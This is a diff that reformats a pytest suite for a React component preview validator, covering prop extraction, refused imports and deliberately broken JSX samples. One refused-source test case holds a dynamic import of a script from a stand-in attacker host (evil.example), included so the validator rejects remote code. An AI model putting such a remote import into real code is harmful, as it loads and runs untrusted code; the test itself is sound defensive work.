@@ -51,7 +51,10 @@ export default function Swatch({ fill = "#ff0000", ring = "rgb(0, 0, 255)", text
 }
 """
     assert [(p.name, p.kind) for p in extract_props(source)] == [
-        ("fill", "color"), ("ring", "color"), ("textColor", "color"), ("label", "string"),
+        ("fill", "color"),
+        ("ring", "color"),
+        ("textColor", "color"),
+        ("label", "string"),
     ]
 
 
@@ -136,14 +139,20 @@ def test_a_source_without_a_readable_component_has_no_props():
 # -- refused sources ------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("source, says", [
-    ('import styles from "./styles.css"\nexport default () => <b/>', "imports './styles.css' (line 1)"),
-    ('import _ from "lodash"\nexport default () => <b/>', "imports 'lodash'"),
-    ('export default () => { const fs = require("fs"); return <b/> }', "imports 'fs'"),
-    ('export default function A() { import("https://evil.example/x.js"); return null }', "imports 'https://evil.example/x.js'"),
-    ('export { x } from "../x"\nexport default () => <b/>', "imports '../x'"),
-    ("function A() { return <b/> }", "has no default export"),
-])
+@pytest.mark.parametrize(
+    "source, says",
+    [
+        ('import styles from "./styles.css"\nexport default () => <b/>', "imports './styles.css' (line 1)"),
+        ('import _ from "lodash"\nexport default () => <b/>', "imports 'lodash'"),
+        ('export default () => { const fs = require("fs"); return <b/> }', "imports 'fs'"),
+        (
+            'export default function A() { import("https://evil.example/x.js"); return null }',
+            "imports 'https://evil.example/x.js'",
+        ),
+        ('export { x } from "../x"\nexport default () => <b/>', "imports '../x'"),
+        ("function A() { return <b/> }", "has no default export"),
+    ],
+)
 def test_a_disallowed_import_or_a_missing_default_export_is_refused_with_one_line(source, says):
     with pytest.raises(PreviewRefused) as e:
         validate_source(source)
@@ -155,14 +164,18 @@ def test_a_disallowed_import_or_a_missing_default_export_is_refused_with_one_lin
 # read components with a parser. The first four fail the frame's transpile; the last, which
 # sucrase lets through, fails TypeScript, Babel and esbuild (what a Framer export meets).
 BROKEN = {
-    "a broken destructuring": ("""import React from "react";
+    "a broken destructuring": (
+        """import React from "react";
 
 export default function Counter({ label = "Count", start = 0 }) {
   const [count, setCount = React.useState(start);
   return <button onClick={() => setCount(count + 1)}>{label}: {count}</button>;
 }
-""", "(line 4, column 3): unexpected `const [count, setCount"),
-    "an unclosed JSX tag": ("""export default function TodoList({ items = ["Milk", "Eggs"] }) {
+""",
+        "(line 4, column 3): unexpected `const [count, setCount",
+    ),
+    "an unclosed JSX tag": (
+        """export default function TodoList({ items = ["Milk", "Eggs"] }) {
   return (
     <div>
       <h2>Todo</h2>
@@ -171,8 +184,11 @@ export default function Counter({ label = "Count", start = 0 }) {
     </div>
   );
 }
-""", "(line 7, column 5): `<ul>` from line 5 is closed by `</div>`"),
-    "a missing brace": ("""import React, { useState } from "react";
+""",
+        "(line 7, column 5): `<ul>` from line 5 is closed by `</div>`",
+    ),
+    "a missing brace": (
+        """import React, { useState } from "react";
 
 export default function LoginForm({ title = "Sign in" }) {
   const [email, setEmail] = useState("");
@@ -185,14 +201,23 @@ export default function LoginForm({ title = "Sign in" }) {
     </form>
   );
 }
-""", "(line 13, column 2): `}` is missing"),
-    "a style that loops until the tokens run out": ("""export default function PricingCard({ title = "Pro" }) {
+""",
+        "(line 13, column 2): `}` is missing",
+    ),
+    "a style that loops until the tokens run out": (
+        """export default function PricingCard({ title = "Pro" }) {
   return (
     <div style={{
       padding: 16,
-""" + "      margin: 16,\n" * 40 + "      margin: 1", "(line 45, column 16): it ends before `{` from line 3 is closed"),
-    "a bare > in JSX text": ("export default () => <p>Next > Done</p>\n",
-                             "(line 1, column 30): `>` cannot stand in JSX text: write {'>'} or &gt;"),
+"""
+        + "      margin: 16,\n" * 40
+        + "      margin: 1",
+        "(line 45, column 16): it ends before `{` from line 3 is closed",
+    ),
+    "a bare > in JSX text": (
+        "export default () => <p>Next > Done</p>\n",
+        "(line 1, column 30): `>` cannot stand in JSX text: write {'>'} or &gt;",
+    ),
 }
 
 
@@ -212,7 +237,7 @@ def test_a_long_run_of_what_is_not_code_is_refused_once_reading_it_runs_over_its
     with pytest.raises(PreviewRefused, match=r"^Noise.jsx could not be read in 0 s — it is mostly not JavaScript"):
         validate_source(noise, "Noise.jsx")
     assert extract_props(noise) == []
-    assert props('export default ({ n = 1 }) => <b>{n}</b>') == [("n", "number", 1)]  # the parser starts afresh
+    assert props("export default ({ n = 1 }) => <b>{n}</b>") == [("n", "number", 1)]  # the parser starts afresh
 
 
 def test_components_are_checked_on_several_threads_at_once():
@@ -226,7 +251,7 @@ def test_components_are_checked_on_several_threads_at_once():
         except PreviewRefused as e:
             return str(e).split(":")[0]
 
-    sources = [source for source, _ in BROKEN.values()] + ['export default () => <b>fine</b>'] * 4
+    sources = [source for source, _ in BROKEN.values()] + ["export default () => <b>fine</b>"] * 4
     with ThreadPoolExecutor(8) as pool:
         seen = list(pool.map(check, sources * 5))
     assert seen == [check(s) for s in sources] * 5 and seen.count("ok") == 20
